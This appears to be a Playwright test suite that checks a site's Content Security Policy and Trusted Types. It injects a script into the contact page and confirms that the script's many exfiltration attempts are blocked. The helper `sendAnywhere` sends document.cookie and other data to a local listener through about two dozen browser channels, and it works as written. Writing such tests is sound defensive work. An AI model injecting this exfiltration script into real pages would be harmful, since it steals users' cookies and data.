import { expect, type Page } from "@playwright/test";
import { type Listener, startListener } from "#tests/setup/listener.ts";
import { test } from "#tests/setup/test.ts";

/** What a smuggled script would try to send what it found to `to`. Each way is tried, whatever came of the one before. */
function sendAnywhere(to: string): void {
  const add = (tag: string, fields: object) => document.body.append(Object.assign(document.createElement(tag), fields));
  const ways = [
    () => void fetch(`${to}/fetch`, { method: "POST", mode: "no-cors", body: document.cookie }).catch(() => undefined),
    () => navigator.sendBeacon(`${to}/beacon`, "found"),
    () => {
      const asked = new XMLHttpRequest();
      asked.open("GET", `${to}/xhr`);
      asked.send();
    },
    () => new WebSocket(`${to.replace("http", "ws")}/socket`),
    () => new EventSource(`${to}/events`),
    () => new Worker(`${to}/worker.js`),
    () => new Worker(URL.createObjectURL(new Blob([`fetch("${to}/blob-worker")`]))),
    () => add("img", { src: `${to}/img` }),
    () => add("video", { src: `${to}/video` }),
    () => add("iframe", { src: `${to}/iframe` }),
    () => add("object", { data: `${to}/object` }),
    () => add("embed", { src: `${to}/embed` }),
    () => add("link", { rel: "stylesheet", href: `${to}/style` }),
    () => add("link", { rel: "prefetch", href: `${to}/prefetch` }),
    () => add("link", { rel: "preload", as: "image", href: `${to}/preload` }),
    () => add("link", { rel: "icon", href: `${to}/icon` }),
    () => add("base", { href: `${to}/base/` }),
    () => add("script", { src: `${to}/script.js` }),
    () => add("script", { textContent: `fetch("${to}/text")` }),
    () => add("div", { innerHTML: `<img src="${to}/inner">` }),
    () => add("div", { style: `background: url("${to}/background")` }),
    () => new FontFace("far", `url("${to}/font")`).load().catch(() => undefined),
    () => void import(`${to}/module.js`).catch(() => undefined),
    () => new Function(`fetch("${to}/code")`)(),
    () => {
      // Into a frame: sent by the page itself it would end what is on its way.
      const fields = { action: `${to}/form`, method: "post", target: "far" };
      const form = Object.assign(document.createElement("form"), fields);
      document.body.append(Object.assign(document.createElement("iframe"), { name: "far" }), form);
      form.submit();
    },
  ];
  for (const way of ways) {
    try {
      way();
    } catch {
      // Refused at once: the next way.
    }
  }
}

test.describe("a script that was smuggled into a page", () => {
  // Each refusal is told on the console.
  test.use({ expectedErrors: [/./] });

  let far: Listener;
  test.beforeEach(async () => {
    far = await startListener();
  });
  test.afterEach(() => far.close());

  /** Puts the script into the contact page, whose headers `change` may change. */
  async function smuggleIn(page: Page, change: (headers: Record<string, string>) => Record<string, string>) {
    await page.route("/contact", async (route) => {
      const answer = await route.fetch();
      const attack = `<script>(${sendAnywhere.toString()})(${JSON.stringify(far.origin)}); window.ran = true</script>`;
      const body = (await answer.text()).replace("</body>", `${attack}</body>`);
      await route.fulfill({ response: answer, headers: change(answer.headers()), body });
    });
    // A page that is refused so much may never be told that it has loaded.
    await page.goto("/contact", { waitUntil: "commit" });
  }

  test("runs, and has nowhere to send anything", async ({ page, context, request }) => {
    // Else the browser itself would keep the page from another address of this machine.
    await context.grantPermissions(["local-network-access"]);
    await smuggleIn(page, (headers) => headers);
    await expect.poll(() => page.evaluate(() => "ran" in window)).toBe(true);
    // What was sent before has arrived by then.
    await page.evaluate(() => fetch("/api/health"));
    await request.get(`${far.origin}/control`);
    expect(far.asked).toEqual(["/control"]);
  });

  test("would have sent it in many ways without the policy", async ({ page, context }) => {
    await context.grantPermissions(["local-network-access"]);
    await smuggleIn(page, ({ "content-security-policy": _policy, ...others }) => others);
    const ways = ["/fetch", "/beacon", "/xhr", "/socket", "/events", "/img", "/style", "/font", "/script.js", "/form"];
    await expect.poll(() => ways.filter((way) => !far.asked.includes(way))).toEqual([]);
  });

  test("cannot make text into tags or code, nor take another's word for it", async ({ page }) => {
    await page.goto("/contact");
    const refused = await page.evaluate(() => {
      const types: unknown = Reflect.get(window, "trustedTypes");
      const createPolicy = (name: string) =>
        Reflect.apply(Reflect.get(Object(types), "createPolicy"), types, [name, {}]);
      const ways = {
        innerHTML: () => Object.assign(document.createElement("p"), { innerHTML: "<b>a</b>" }),
        insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<b>a</b>"),
        write: () => document.write("<b>a</b>"),
        parse: () => new DOMParser().parseFromString("<b>a</b>", "text/html"),
        srcdoc: () => Object.assign(document.createElement("iframe"), { srcdoc: "<b>a</b>" }),
        scriptText: () => Object.assign(document.createElement("script"), { textContent: "1" }),
        scriptFrom: () => Object.assign(document.createElement("script"), { src: "/pictures/duck.svg" }),
        worker: () => new Worker("/pictures/duck.svg"),
        anotherPolicy: () => createPolicy("another"),
        samePolicyAgain: () => createPolicy("default"),
      };
      return Object.entries(ways).flatMap(([name, way]) => {
        try {
          way();
          return [`${name} was let through`];
        } catch {
          return [];
        }
      });
    });
    expect(refused).toEqual([]);
  });
});
